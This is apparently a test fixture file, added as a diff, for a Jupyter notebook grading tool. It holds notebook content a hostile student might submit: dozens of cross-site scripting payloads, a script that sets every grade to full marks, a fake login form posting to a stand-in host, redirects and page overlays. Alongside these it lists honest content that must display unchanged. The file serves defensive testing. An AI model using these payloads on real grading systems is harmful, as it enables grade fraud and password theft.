@@ -1,0 +1,142 @@
+"""What a hostile student hands in, and what an honest one does. Whoever runs a payload's code calls ``ran(name)``."""
+
+from __future__ import annotations
+
+PIXEL = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")
+GIF = "R0lGODlhAQABAIAAAP8AAP///yH5BAAAAAAALAAAAAABAAEAAAICRAEAOw=="
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{}"><circle r="9"/></svg>'
+POINTS = ("const all = new Grades(); all.fetch({data: {submission_id}, "
+          "success: () => all.each(one => one.save({manual_score: one.get('max_score')}))});")
+
+# These run on the stock pages, when they are opened or when everything on them is clicked and touched.
+MARKDOWN = {
+    "script": "<script>ran('script')</script>",
+    "points": f"<script>window.Grades && addEventListener('load', () => {{{POINTS} ran('points')}});"
+              "window.Grades || ran('points')</script>",
+    "image": "Here is my plot: <img src=x onerror=\"ran('image')\">",
+    "svg": "<svg onload=\"ran('svg')\"></svg>",
+    "link": "[my source](<javascript:ran('link')>)",
+    "obfuscated": "<a href=\"&#106;ava&Tab;script&colon;ran('obfuscated')\">my source</a>",
+    "reference": "[my source][1]\n\n[1]: <javascript:ran('reference')>",
+    "autolink": "<javascript:ran(/autolink/.source)>",
+    "frame": "<iframe srcdoc=\"<script>parent.ran('frame')</script>\"></iframe>",
+    "data frame": "<iframe src=\"data:text/html,<script>ran('data frame')</script>\"></iframe>",
+    "details": "<details open ontoggle=\"ran('details')\"><summary>my work</summary></details>",
+    "video": "<video><source onerror=\"ran('video')\"></video>",
+    "focus": "<input autofocus onfocus=\"ran('focus')\">",
+    "hover": "<b onmouseover=\"ran('hover')\">Read this.</b>",
+    "button": "<form action=\"javascript:ran('button')\"><button>Go on</button></form>",
+    "animation": "<style>@keyframes k {}</style><p style=\"animation: k 1s\" onanimationstart=\"ran('animation')\">x</p>",
+    "diagram": "```mermaid\n<img src=x onerror=\"ran('diagram')\">\n```",
+    "unclosed": "<div><img src=x onerror=\"ran('unclosed')\" alt=",
+    "heading": "## <img src=x onerror=\"ran('heading')\"> My answer",
+    "table": "| a | b |\n|---|---|\n| 1 | <img src=x onerror=\"ran('table')\"> |",
+    "tooltip": "<a data-toggle=\"tooltip\" data-html=\"true\" onclick=\"ran('tooltip')\""
+               " title=\"<img src=x onerror=ran('tooltip')>\">?</a>",
+}
+OUTPUTS = {
+    "html output": "display(HTML(\"<script>ran('html output')</script>\"))",
+    "html handler": "display(HTML(\"<img src=x onerror=ran('html&#32;handler')>\"))",
+    "svg in html": f"display(HTML({SVG.format('ran(/svg.in.html/.source.replace(/[.]/g, String.fromCharCode(32)))')!r}))",
+    "javascript": "display(Javascript(\"ran('javascript')\"))",
+    "markdown output": "display(Markdown(\"<img src=x onerror=\\\"ran('markdown output')\\\">\"))",
+    "size": f"raw({{'image/png': '{PIXEL}'}}, {{'image/png': {{'width': '1 onload=ran(/size/.source)'}}}})",
+    "isolated": "raw({'text/html': \"<script>ran('isolated')</script>\"}, {'text/html': {'isolated': True}})",
+    "count": "kernel = get_ipython().kernel\n"
+             "kernel.session.send(kernel.iopub_socket, 'execute_result', {'data': {'text/plain': '1'}, 'metadata': {},\n"
+             "                    'execution_count': '<img src=x onerror=ran(/count/.source)>'},\n"
+             "                    parent=kernel.get_parent())",
+}
+IMPORTS = ("from IPython.display import HTML, Javascript, Latex, Markdown, display\n\n\n"
+           "def raw(data, metadata=None):\n    display(data, metadata=metadata, raw=True)")
+
+# These are harmless on the stock pages too, with the versions of today. They have to stay so.
+QUIET_MARKDOWN = {
+    "formula": "$<img src=x onerror=\"ran('formula')\">$ and $$<script>ran('formula')</script>$$",
+    "environment": "\\begin{align}<img src=x onerror=\"ran('environment')\">\\end{align}",
+    "link in a formula": "$\\href{javascript:ran('link in a formula')}{x}$ $\\unicode[x onload=ran(1)]{65}$",
+    "libraries": "$\\require{html} \\style{position: fixed; inset: 0}{\\class{modal-backdrop}{x}}$",
+    "code": "`<script>ran('code')</script>`\n\n    <script>ran('code')</script>\n\n"
+            "```html\n<script>ran('code')</script>\n```\n\n```nonsense\n<script>ran('code')</script>\n```",
+    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=ran('noscript')>\">",
+    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
+                "onerror=ran('mutation')&gt;\">",
+    "template": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran('template')>",
+    "comment": "<!--><img src=x onerror=ran('comment')>-->",
+    "cdata": "<![CDATA[<img src=x onerror=ran('cdata')>]]>",
+    "text area": "<textarea><a title=\"</textarea><img src=x onerror=ran('text area')>\">",
+    "image title": "![a](x \"\\\" onerror=ran('image title') a=\\\"\")",
+    "image of text": f"![\" onerror=ran('alt')](data:text/html;base64,{PIXEL})",
+    "title tag": "<title><script>ran('title tag')</script></title>",
+    "object": "<object data=\"javascript:ran('object')\"></object><embed src=\"javascript:ran('object')\">",
+    "plaintext": "<xmp><script>ran('plaintext')</script></xmp>",
+}
+QUIET_OUTPUTS = {
+    "svg output": f"raw({{'image/svg+xml': {SVG.format('ran(1)')!r}}})",
+    "latex output": "display(Latex(\"$\\\\href{javascript:ran('latex output')}{x}$ <script>ran('latex output')</script>\"))",
+    "printed": "print(\"<script>ran('printed')</script> \\x1b[31m<img src=x onerror=ran('printed')>\")",
+    "traceback": "raise ValueError(\"<script>ran('traceback')</script>\")",
+    "widget": "raw({'application/vnd.jupyter.widget-view+json':\n"
+              "     {'model_id': \"</script><script>ran('widget')</script>\", 'version_major': 2, 'version_minor': 0}})",
+    "unknown": "raw({'application/<script>ran(1)</script>': 'x', 'text/vnd.mermaid': \"<script>ran('unknown')</script>\"})",
+}
+WIDGETS = {"application/vnd.jupyter.widget-state+json": {
+    "version_major": 2, "version_minor": 0,
+    "state": {"</script><script>ran('widget')</script>": {
+        "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0",
+        "state": {"value": "<img src=x onerror=ran('widget')>"}}}}}
+
+# No code, but the page is not the instructor's any more: covered, sent elsewhere, asking for a password,
+# asking this very server for something, or with a field's name on another element.
+PAGE = {
+    "base": "<base href=\"https://elsewhere.example/\">",
+    "refresh": "<meta http-equiv=\"refresh\" content=\"600; url=https://elsewhere.example/\">",
+    "form": "<form action=\"https://elsewhere.example/\">Your session ended. <input name=password><button>Log in"
+            "</button></form>",
+    "cover": "<div style=\"position: fixed; inset: 0; z-index: 99999\">x</div>",
+    "cover by class": "<div class=\"modal-backdrop in\">x</div>",
+    "style": "<style>body::after {content: ''; position: fixed; inset: 0; z-index: 99999}</style>",
+    "link style": "<link rel=stylesheet href=\"https://elsewhere.example/style.css\">",
+    "request": "<img src=\"/formgrader/?path=submitted/mallory\"> ![x](/formgrader/?path=submitted/mallory)",
+    "request by address": "![x](http://localhost:8888/formgrader/?path=x) <a href=\"http://127.0.0.1:8888/lab\">x</a>",
+    "file beside": "[my plot](plot.html) [and](files/plot.html) [this](//elsewhere.example/)",
+    "field": "<input class=\"score\" id=\"parity-check\"> <b id=\"what_convinces\">x</b>",
+    "media": "<audio src=\"https://elsewhere.example/a.ogg\" autoplay></audio>",
+    "backdrop image": "<table background=\"https://elsewhere.example/x.png\"><tr><td"
+                      " style=\"background: url(https://elsewhere.example/y.png)\">1</td></tr></table>",
+}
+
+# What honest students write stays, to the letter or to look at.
+HONEST = f"""## What I found
+
+If a < b and b > c, then `if a < b: print("<script>")`, by $a<b & c$, [as here](https://example.org/?a=1&b=2).
+
+$$
+h_t = \\tanh(W h_{{t-1}} + x_t) < 1
+$$
+
+\\begin{{align}}
+a &< b \\\\
+c &> d
+\\end{{align}}
+
+| bits | parity |
+|-----:|:------:|
+| `01` | $p<1$  |
+
+```python
+print("<script>" if a < b else 'ran')
+```
+
+![a pixel](data:image/png;base64,{PIXEL}) ![moving](data:image/gif;base64,{GIF}) ![pasted](attachment:pasted.png)
+
+- [x] done <br> H<sub>2</sub>O, <b>bold</b>, ~~gone~~
+
+<details><summary>More</summary>the rest</details>
+"""
+HONEST_OUTPUTS = {
+    "frame": "display(HTML('<table border=\"1\" class=\"dataframe\"><tr style=\"text-align: right;\"><th>a</th></tr>'\n"
+             "             '<tr><td>a frame of data</td></tr></table>'))",
+    "plot": f"raw({{'image/png': '{PIXEL}', 'text/plain': '<Figure>'}}, {{'image/png': {{'width': 7, 'height': 5}}}})",
+    "drawing": f"raw({{'image/svg+xml': {SVG.format('')!r}}})",
+}
